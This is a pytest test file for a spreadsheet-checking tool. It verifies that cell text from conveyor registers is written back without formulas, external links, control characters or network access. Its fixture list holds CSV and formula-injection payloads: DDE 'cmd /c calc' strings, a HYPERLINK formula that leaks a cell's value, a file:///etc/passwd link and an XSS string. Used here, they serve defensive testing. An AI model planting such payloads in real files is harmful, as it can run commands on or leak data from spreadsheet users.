"""Text from a source stays text: no formula, no link out, no control sequence, no network.

CSV: OWASP, CSV Injection (a cell that begins with = + - @, a tab or a carriage return may be run
by a spreadsheet program). Workbooks: ECMA-376 part 1, where only an ``f`` element is a formula and
only a relationship leads out of the package.
"""

from __future__ import annotations

import csv
import json
import re
import socket
import zipfile

import openpyxl
import pytest
import xlsxwriter

from sheetcheck.intake import isolate

from .conftest import check
from .packages import register

EVIL = [
    '=HYPERLINK("http://127.0.0.1/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "{=1+1}",
    "http://127.0.0.1/evil",
    "file:///etc/passwd",
    "internal:Elsewhere!A1",
    "mailto:nobody@example.invalid",
    "_x003D_1+1",
    "a\x07b\x1b[31m",
    "<script>alert(1)</script> & ]]>",
    'DDE("cmd";"/c calc";"x")',
]
HEADINGS = ["Tag", "Area", "Notes", "Belt width (mm)", "Chute width inside (mm)", "Nip guards"]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """A run over a register whose every text is such, with everything it can write."""
    folder = tmp_path_factory.mktemp("evil")
    source = folder / "=1+1.xlsx"
    with xlsxwriter.Workbook(source) as book:
        sheet = book.add_worksheet("=SUM(A1)+@x")
        for column, heading in enumerate([*HEADINGS, "=A1+1", "@Lump size (mm)"]):
            sheet.write_string(0, column, heading)
        for row, text in enumerate(EVIL, 1):
            for column in (0, 1, 2, 6):
                sheet.write_string(row, column, text)
            sheet.write_number(row, 3, 900)
            sheet.write_string(row, 4, text if row % 2 else "850")
            sheet.write_string(row, 5, text if row % 3 else "no")
            sheet.write_string(row, 7, "-75")
    result = check(
        source, "--json", folder / "r.json", "--csv", folder / "r.csv", "--out", folder / "out"
    )
    assert result.exit_code == 0, result.output
    only = check(source, "--report-only", "--out", folder / "only")
    assert only.exit_code == 0, only.output
    return folder


@pytest.fixture(params=["out", "only"])
def package(written, request):
    with zipfile.ZipFile(written / request.param / "=1+1.checked.xlsx") as opened:
        yield opened


def test_every_conveyor_arrived(written):
    rows = json.loads((written / "r.json").read_text(encoding="utf-8"))["rows"]
    assert len(rows) == len(EVIL)
    assert "+1+1" in {row["tag"] for row in rows}


def test_no_part_holds_a_formula(package):
    for name in package.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(rb"<(?:\w+:)?f[ >/]", package.read(name)), name
        assert b"<definedName" not in package.read(name) or b"cmd" not in package.read(name)


def test_no_relationship_leads_out_of_the_package(package):
    for name in package.namelist():
        if name.endswith(".rels"):
            assert b"External" not in package.read(name), name


def test_every_link_leads_to_a_sheet_of_the_workbook(package):
    book = openpyxl.load_workbook(package.filename)
    count = 0
    for sheet in book:
        links = [cell.hyperlink for line in sheet.iter_rows() for cell in line if cell.hyperlink]
        for link in links:
            assert link.target is None
            assert (
                link.location.rpartition("!")[0].strip("'").replace("''", "'") in book.sheetnames
            )
            count += 1
    assert count or "only" in str(package.filename)  # there is no source to lead to


def test_texts_read_back_as_they_were_and_as_texts(written):
    """Outside reference: openpyxl takes a text for a formula only where the file says so."""
    book = openpyxl.load_workbook(written / "out" / "=1+1.checked.xlsx")
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr", "b", "d"}
    shown = {cell.value for cell in book["Check results"]["A"]}
    assert {text for text in EVIL if text.isprintable() and "_x" not in text} <= shown


def test_no_cell_of_the_csv_begins_a_formula(written):
    with (written / "r.csv").open(encoding="utf-8", newline="") as file:
        lines = list(csv.reader(file))
    head, *lines = lines
    numbers = {"found", "found_high", "margin", "margin_high", "relative_margin"}
    assert lines
    for line in lines:
        for name, text in zip(head, line, strict=True):
            if name in numbers and text:
                float(text)
            else:
                assert not text.startswith((*"=+-@\t\r＝＋－＠",)), (name, text)


def test_no_control_character_reaches_the_terminal(tmp_path):
    source = tmp_path / "register.xlsx"
    with xlsxwriter.Workbook(source) as book:
        sheet = book.add_worksheet("esc \x1b(0x")
        sheet.write_row(0, 0, ["Belt width (mm)", "Belt speed (m/s)", "Trough angle"])
        sheet.write_row(1, 0, [900, 1.5, 35])
    result = check(source)
    assert result.exit_code == 2
    assert all(line.isprintable() for line in result.output.splitlines())


def test_the_main_job_touches_no_network(tmp_path, monkeypatch):
    """Sockets are gone, here and in the process that reads; the job does not miss them."""
    source = tmp_path / "register.xlsx"
    source.write_bytes(register())

    def gone(*arguments, **named):
        raise AssertionError("the network was touched")

    for name in ("socket", "create_connection", "getaddrinfo", "socketpair"):
        monkeypatch.setattr(socket, name, gone)
    # A fresh reader, in which opening a socket ends the process.
    isolate._end_idle()
    start = isolate._START.replace(
        "from sheetcheck",
        "import socket; socket.socket = socket.create_connection = socket.getaddrinfo = "
        "lambda *a, **k: __import__('os')._exit(9); from sheetcheck",
    )
    assert start != isolate._START
    monkeypatch.setattr(isolate, "_START", start)
    result = check(source, "--json", tmp_path / "r.json", "--csv", tmp_path / "r.csv")
    isolate._end_idle()
    assert result.exit_code == 0, result.output
    assert (tmp_path / "register.checked.xlsx").is_file()


def test_macros_and_outside_links_are_carried_as_bytes_and_never_used(tmp_path):
    """A macro part of noise would fail any program that ran it."""
    from .packages import repacked

    macro, link = bytes(range(256)) * 8, b"<externalLink>never parsed</externalLink>"
    source = tmp_path / "register.xlsm"
    source.write_bytes(
        repacked(
            register(),
            {
                "[Content_Types].xml": lambda part: part.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            },
            more=[("xl/vbaProject.bin", macro), ("xl/externalLinks/externalLink1.xml", link)],
        )
    )
    result = check(source)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "register.checked.xlsm") as package:
        assert package.read("xl/vbaProject.bin") == macro
        assert package.read("xl/externalLinks/externalLink1.xml") == link
